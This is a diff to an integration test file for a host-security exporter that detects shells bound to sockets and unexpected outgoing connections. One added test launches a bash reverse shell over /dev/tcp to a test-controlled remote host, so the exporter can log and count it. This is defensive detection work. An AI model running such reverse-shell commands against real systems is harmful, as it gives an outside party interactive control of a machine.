@@ -1,5 +1,6 @@
 import { execFileSync } from 'node:child_process';
-import { writeFileSync } from 'node:fs';
+import { readFileSync, writeFileSync } from 'node:fs';
+import { sealBaseline, type BaselineDocument } from '../../src/baseline/baseline.js';
 import { join } from 'node:path';
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import type { FindingsDocument } from '../../src/findings/report.js';
@@ -7,6 +8,7 @@ import { runCli, startExporter, tempDir, type RunningExporter } from '../helpers
 import { sampleValue } from '../helpers/exposition.js';
 import { outputOf, remoteHost, type RemoteHost } from '../helpers/netns.js';
 import { spawnForFile, spawnOwned, stopProcess } from '../helpers/processes.js';
+import { childConnection, nodeUnderAnotherName } from '../helpers/sockets.js';
 import { requireTool } from '../helpers/tools.js';
 
 /**
@@ -23,6 +25,7 @@ const python = '/usr/bin/python3';
 const pythonExe = '/usr/bin/python3.11';
 
 let exporter: RunningExporter;
+let exporterLog: ReturnType<typeof outputOf>;
 let stateDir: string;
 let remote: RemoteHost;
 
@@ -39,6 +42,7 @@ beforeAll(async () => {
   stateDir = tempDir();
   // Trust on first use: the host as it is now is the baseline, so only what the tests plant is new.
   exporter = await startExporter(exporterArgs(stateDir), { spawn: spawnForFile });
+  exporterLog = outputOf(exporter.child);
 }, 120_000);
 
 afterAll(async () => {
@@ -130,8 +134,6 @@ describe('shells on sockets and interpreters calling out, seen by serve on the f
         port: String(port),
       }),
     ).toBe(1);
-    // The watch of new PIDs saw it too, before any scrape.
-    expect(sampleValue(before, 'hostguard_network_shell_on_socket_starts_total', { program_class: 'interpreter' })).toBeGreaterThanOrEqual(1);
 
     // 300,000 bytes out through the shell: counted as sent by a connection with a shell on it.
     const sentBefore = sampleValue(before, 'hostguard_network_flagged_bytes_total', { direction: 'sent', kind: 'shell_on_socket' })!;
@@ -215,6 +217,110 @@ describe('shells on sockets and interpreters calling out, seen by serve on the f
     ]);
     expect(about(await findings(), 'unexpected_listener', port)).toEqual([]);
     await stopProcess(bind);
+  });
+});
+
+describe('between scrapes', () => {
+  beforeEach(() => {
+    remote = remoteHost();
+  });
+
+  it('a one-shot reverse shell gone before any scrape is counted by the watch of new PIDs and logged with its pid', async () => {
+    const port = 4452;
+    const session = remoteListener(port);
+    await remoteListening(port);
+    const counted = () => metrics().then((m) => sampleValue(m, 'hostguard_network_shell_on_socket_starts_total', { program_class: 'interpreter' })!);
+    const before = await counted();
+    // It stays until the exporter has logged it, so no machine is too slow for the watch; no scrape meanwhile.
+    const shell = spawnOwned('bash', ['-c', `exec 0<>/dev/tcp/${remote.remoteAddress}/${port} 1>&0 2>&0; echo ONESHOT; read line`]);
+    await session.output.waitFor(/ONESHOT/);
+    await exporterLog.waitFor(new RegExp(`socket as a standard stream.*pid=${shell.pid} exe=/usr/bin/bash program_class=interpreter protocol=tcp direction=outgoing port=${port}`));
+    await stopProcess(shell, 'SIGKILL');
+    expect(await counted()).toBe(before + 1);
+    expect(about(await findings(), 'shell_on_socket', port)).toEqual([]);
+  });
+});
+
+describe('outgoing connections against the baseline and the processes collector (check)', () => {
+  beforeEach(() => {
+    remote = remoteHost();
+  });
+
+  function cli(dir: string, args: string[], policyText = policy) {
+    return runCli([...exporterArgs(dir, policyText), ...args]);
+  }
+
+  function checkFindings(dir: string): Finding[] {
+    const result = cli(dir, ['check', '--format', 'json']);
+    if (result.code === 2) throw new Error(`check failed: ${result.stderr}`);
+    return (JSON.parse(result.stdout) as FindingsDocument).findings;
+  }
+
+  async function pythonConnectedTo(port: number): Promise<number> {
+    remoteListener(port);
+    await remoteListening(port);
+    const child = spawnOwned(python, ['-c', `import socket,time; s=socket.create_connection(('${remote.remoteAddress}', ${port})); print('CONNECTED', flush=True); time.sleep(600)`]);
+    await outputOf(child).waitFor(/CONNECTED/);
+    return child.pid!;
+  }
+
+  it('the baseline learns the destinations interpreters use, `baseline diff` shows a new one, and `update` keeps the old ones', async () => {
+    const dir = tempDir();
+    const [first, second] = [4460, 4461];
+    const firstPid = await pythonConnectedTo(first);
+    expect(cli(dir, ['baseline', 'init']).code).toBe(0);
+    const key = (port: number) => `outbound tcp/private/${port} ${pythonExe}`;
+    const learned = () => Object.keys((JSON.parse(readFileSync(join(dir, 'baseline.json'), 'utf8')) as BaselineDocument).sections['network'] ?? {});
+    expect(learned()).toEqual(expect.arrayContaining(['outbound', key(first)]));
+    expect(about(checkFindings(dir), 'unexpected_outbound', first)).toEqual([]);
+
+    await pythonConnectedTo(second);
+    expect(about(checkFindings(dir), 'unexpected_outbound', second).map((f) => f.subject.reason)).toEqual(['new_destination']);
+    const diff = cli(dir, ['baseline', 'diff']);
+    expect(diff.code).toBe(1);
+    expect(diff.stdout).toContain(`+ ${key(second)}\n`);
+    expect(diff.stdout).not.toContain(key(first));
+
+    process.kill(firstPid, 'SIGKILL');
+    expect(cli(dir, ['baseline', 'update']).code).toBe(0);
+    // The first connection is gone, its destination stays learned.
+    expect(learned()).toEqual(expect.arrayContaining([key(first), key(second)]));
+    expect(about(checkFindings(dir), 'unexpected_outbound', second)).toEqual([]);
+  });
+
+  it('a baseline written before destinations were learned judges none new, says so, and `baseline diff` offers them', async () => {
+    const dir = tempDir();
+    const port = 4462;
+    await pythonConnectedTo(port);
+    expect(cli(dir, ['baseline', 'init']).code).toBe(0);
+    // The same baseline as an earlier version wrote it: listeners only, sealed anew.
+    const document = JSON.parse(readFileSync(join(dir, 'baseline.json'), 'utf8')) as BaselineDocument;
+    const { sha256: _sha, hmac_sha256: _hmac, ...body } = document;
+    body.sections['network'] = Object.fromEntries(Object.entries(body.sections['network']!).filter(([k]) => !k.startsWith('outbound')));
+    writeFileSync(join(dir, 'baseline.json'), JSON.stringify(sealBaseline(body)));
+
+    const result = cli(dir, ['check', '--format', 'json']);
+    expect(about((JSON.parse(result.stdout) as FindingsDocument).findings, 'unexpected_outbound', port)).toEqual([]);
+    expect(result.stderr).toContain('the baseline was written before destinations of shells, interpreters and network tools were learned');
+    const diff = cli(dir, ['baseline', 'diff']);
+    expect(diff.stdout).toContain('+ outbound\n');
+    expect(diff.stdout).toContain(`+ outbound tcp/private/${port} ${pythonExe}\n`);
+  });
+
+  it('a process with a finding (a program run from /tmp) calling out is an unexpected_outbound of reason flagged_process', async () => {
+    const dir = tempDir();
+    const port = 4463;
+    remoteListener(port);
+    await remoteListening(port);
+    expect(cli(dir, ['baseline', 'init']).code).toBe(0);
+    const agent = nodeUnderAnotherName(tempDir(), 'agent');
+    await childConnection(remote.remoteAddress, port, agent);
+    const found = checkFindings(dir);
+    expect(found.filter((f) => f.subject.exe === agent).map((f) => f.kind).sort()).toEqual(['unexpected_outbound', 'unknown_executable', 'writable_location']);
+    expect(about(found, 'unexpected_outbound', port).map((f) => [f.subject.reason, f.subject.remote_class])).toEqual([['flagged_process', 'private']]);
+    // The network collector alone has no processes collector to flag it: a program of class "other" is not judged.
+    const alone = runCli([...exporterArgs(dir).filter((a) => a !== '--collector.processes'), 'check', '--format', 'json']);
+    expect(about((JSON.parse(alone.stdout) as FindingsDocument).findings, 'unexpected_outbound', port)).toEqual([]);
   });
 });
 
